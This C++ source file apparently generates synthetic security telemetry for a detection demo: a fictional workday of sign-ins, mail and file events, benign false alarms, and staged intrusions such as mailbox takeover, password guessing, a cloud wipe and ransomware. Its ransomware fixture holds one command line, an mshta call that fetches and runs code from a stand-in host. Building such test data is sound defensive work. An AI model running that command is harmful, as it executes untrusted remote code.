#include "server/demo/story.hpp"

#include <fmt/format.h>
#include <nlohmann/json.hpp>

#include <algorithm>
#include <array>
#include <cstdint>
#include <string_view>
#include <utility>

namespace catenary::server {
namespace {

using Json = nlohmann::ordered_json;

/// Seconds since midnight.
constexpr int at(int hour, int minute, int second = 0) { return hour * 3600 + minute * 60 + second; }

/// What a product reports under one name.
struct Kind {
    std::string_view source, domain, name, title, tactic, technique, severity;
    double confidence;
};

// Everyday noise: on a real network most signals mean nothing.
constexpr Kind sign_in{"entra_id", "identity", "successful_sign_in", "Sign-in", "TA0001", "T1078", "informational", 0.02};
constexpr Kind wrong_password{"entra_id", "identity", "failed_sign_in", "Failed sign-in", "TA0006", "T1110", "low", 0.05};
constexpr Kind mail{"exchange", "email", "email_delivered_with_link", "E-mail with a link delivered", "TA0001", "T1566.002", "informational", 0.02};
constexpr Kind file_read{"sharepoint", "cloud_app", "file_downloaded", "File downloaded", "TA0009", "T1213.002", "informational", 0.02};
constexpr Kind process{"edr", "endpoint", "process_created", "Process created", "TA0002", "T1059", "informational", 0.01};
constexpr Kind proxy{"proxy", "web", "uncategorised_site_visited", "Visit to an uncategorised site", "TA0011", "T1071.001", "low", 0.04};

// What the intrusions are made of, and some innocents trip over.
constexpr Kind travel{"entra_id", "identity", "impossible_travel", "Impossible travel", "TA0001", "T1078", "medium", 0.35};
constexpr Kind inbox_rule{"exchange", "email", "suspicious_inbox_rule", "Inbox rule hides messages", "TA0003", "T1564.008", "medium", 0.35};
constexpr Kind download{"sharepoint", "cloud_app", "mass_download", "Unusually many downloads", "TA0009", "T1530", "medium", 0.3};
constexpr Kind office_child{"edr", "endpoint", "suspicious_office_child_process", "Office started a script host", "TA0002", "T1059.001", "medium", 0.4};
constexpr Kind dumping{"edr", "endpoint", "credential_dumping", "Memory of LSASS was read", "TA0006", "T1003.001", "high", 0.6};
constexpr Kind lateral{"ndr", "network", "lateral_movement_smb", "Remote service started over SMB", "TA0008", "T1021.002", "medium", 0.4};
constexpr Kind ransom{"edr", "endpoint", "ransomware_note", "Ransom note dropped", "TA0040", "T1486", "high", 0.7};
constexpr Kind key_listing{"azure_activity", "cloud_infra", "storage_key_listing", "Storage account keys listed", "TA0006", "T1552.005", "medium", 0.3};
constexpr Kind deletion{"azure_activity", "cloud_infra", "mass_blob_deletion", "Many blobs deleted", "TA0040", "T1485", "high", 0.5};

Json entity(std::string_view kind, std::string_view value, std::string_view role) { return {{"kind", kind}, {"value", value}, {"role", role}}; }

/// The story under construction; each signal gets an id from its place.
class Day {
public:
    void add(int second, const Kind& kind, std::vector<Json> entities, Json attributes = Json::object()) {
        Json signal{{"id", ""}, {"source", kind.source}, {"time", ""}, {"domain", kind.domain}, {"name", kind.name}, {"title", kind.title}};
        signal["tactics"] = {kind.tactic};
        signal["techniques"] = {kind.technique};
        signal["severity"] = kind.severity;
        signal["confidence"] = kind.confidence;
        signal["entities"] = std::move(entities);
        if (!attributes.empty()) signal["attributes"] = std::move(attributes);
        signals_.emplace_back(second, std::move(signal));
    }

    std::vector<std::string> lines() && {
        std::stable_sort(signals_.begin(), signals_.end(), [](const auto& a, const auto& b) { return a.first < b.first; });
        std::vector<std::string> lines;
        lines.reserve(signals_.size());
        for (auto& [second, signal] : signals_) {
            signal["id"] = fmt::format("ne-{:05}", lines.size() + 1);
            signal["time"] = fmt::format("2026-03-05T{:02}:{:02}:{:02}Z", second / 3600, second / 60 % 60, second % 60);
            lines.push_back(signal.dump());
        }
        return lines;
    }

private:
    std::vector<std::pair<int, Json>> signals_;
};

constexpr std::array first_names{"amara", "bjorn", "chen", "dalia", "emil", "farah", "goran", "hana", "ivo", "jun", "karin", "liam"};
constexpr std::array last_names{"okafor", "lindqvist", "wei", "haddad", "novak", "rossi", "petrov", "sato", "kovac", "berg"};
constexpr std::size_t staff = first_names.size() * last_names.size();

std::string account(std::size_t person) { return fmt::format("{}.{}@ne.example", first_names[person % 12], last_names[person / 12 % 10]); }
std::string workstation(std::size_t person) { return fmt::format("ne-ws-{:03}", person + 1); }
std::string address(std::size_t person) { return fmt::format("10.20.{}.{}", person / 60, person % 60 + 10); }

void working_day(Day& day) {
    std::uint32_t state = 20260305;  // a fixed linear congruential sequence (Numerical Recipes): the story never changes
    const auto next = [&state](std::uint32_t bound) { return static_cast<int>((state = state * 1664525U + 1013904223U) >> 8U) % static_cast<int>(bound); };
    for (std::size_t person = 0; person < staff; ++person) {
        const int morning = at(7, 0) + next(5400);
        if (next(6) == 0) day.add(morning - 20, wrong_password, {entity("account", account(person), "actor"), entity("ip", address(person), "source")});
        day.add(morning, sign_in, {entity("account", account(person), "actor"), entity("ip", address(person), "source")}, {{"country", "SE"}});
        for (int i = 0; i < 4; ++i) day.add(morning + next(32000), mail, {entity("mailbox", account(person), "recipient")});
        for (int i = 0; i < 4; ++i) {
            day.add(morning + next(32000), file_read,
                    {entity("account", account(person), "actor"), entity("file", fmt::format("grid-plan-{}.xlsx", next(400)), "target")});
        }
        for (int i = 0; i < 5; ++i) {
            day.add(morning + next(32000), process, {entity("host", workstation(person), "device"), entity("account", account(person), "actor")},
                    {{"image", i % 2 == 0 ? "outlook.exe" : "teams.exe"}});
        }
        day.add(morning + next(32000), proxy, {entity("ip", address(person), "source"), entity("domain", fmt::format("site{}.example", next(90)), "target")});
    }
}

/// Alone each of these looks like the start of something.
void innocents(Day& day) {
    day.add(at(8, 12), travel, {entity("account", account(17), "actor"), entity("ip", "198.51.100.88", "source")}, {{"country", "JP"}, {"speed_kmh", 2140}});
    day.add(at(11, 30), download, {entity("account", "svc-backup@ne.example", "actor")}, {{"files", 12400}});
    day.add(at(13, 5), inbox_rule, {entity("account", account(40), "actor"), entity("mailbox", account(40), "target")}, {{"rule", "Newsletters to folder"}});
    day.add(at(14, 40), office_child, {entity("host", workstation(71), "device"), entity("account", account(71), "actor")},
            {{"command", "powershell.exe -File budget-macro.ps1"}});
    for (int i = 0; i < 6; ++i) day.add(at(9, 0) + i * 25, wrong_password, {entity("account", account(55), "actor"), entity("ip", address(55), "source")});
}

/// A stolen session: foreign sign-in, a rule that hides the bank's answers, then the contracts go.
void mailbox_takeover(Day& day) {
    const auto who = entity("account", "J.Morrison@ne.example", "actor");
    day.add(at(9, 47, 11), travel, {who, entity("ip", "203.0.113.7", "source")}, {{"country", "RO"}, {"speed_kmh", 5210}, {"risk_level", "medium"}});
    day.add(at(10, 10), inbox_rule, {who, entity("mailbox", "j.morrison@ne.example", "target")}, {{"rule", "."}, {"action", "move to RSS Feeds"}});
    day.add(at(10, 52, 30), download, {who, entity("ip", "203.0.113.7", "source")}, {{"files", 812}});
}

/// A password found by trying: 24 failures in six minutes, then it fits.
void guessed_password(Day& day) {
    for (int i = 0; i < 24; ++i) {
        day.add(at(3, 14) + i * 15, wrong_password, {entity("account", "NE\\svc-scada", "actor"), entity("ip", "198.51.100.23", "source")});
    }
    auto hit = sign_in;
    hit.confidence = 0.1;
    day.add(at(3, 21, 5), hit, {entity("account", "NE\\svc-scada", "actor"), entity("ip", "198.51.100.23", "source")}, {{"country", "NL"}});
}

/// From an attachment to a ransom note on one finance workstation.
void ransomware(Day& day) {
    const auto host = entity("host", "NE-FIN-014", "device");
    day.add(at(15, 2, 40), office_child, {host, entity("account", "p.lind@ne.example", "actor")}, {{"command", "mshta.exe http://203.0.113.99/a"}});
    day.add(at(15, 26), dumping, {host, entity("process", "rundll32.exe", "actor")});
    day.add(at(16, 8, 15), lateral, {host, entity("host", "ne-dc-01", "target"), entity("ip", "10.20.9.14", "source")});
    day.add(at(17, 55), ransom, {host, entity("file", "README_RESTORE.txt", "target")});
}

/// Keys to the storage account are read, then its content is gone.
void cloud_wiper(Day& day) {
    const auto who = entity("account", "ops-automation@ne.example", "actor");
    const auto store = entity("cloud_resource", "/subscriptions/ne-prod/storageaccounts/nebackups", "target");
    day.add(at(12, 3), key_listing, {who, store, entity("ip", "203.0.113.60", "source")});
    day.add(at(12, 41, 20), deletion, {who, store}, {{"blobs", 48211}});
}

}  // namespace

std::vector<std::string> story() {
    Day day;
    working_day(day);
    innocents(day);
    guessed_password(day);
    mailbox_takeover(day);
    cloud_wiper(day);
    ransomware(day);
    return std::move(day).lines();
}

}  // namespace catenary::server
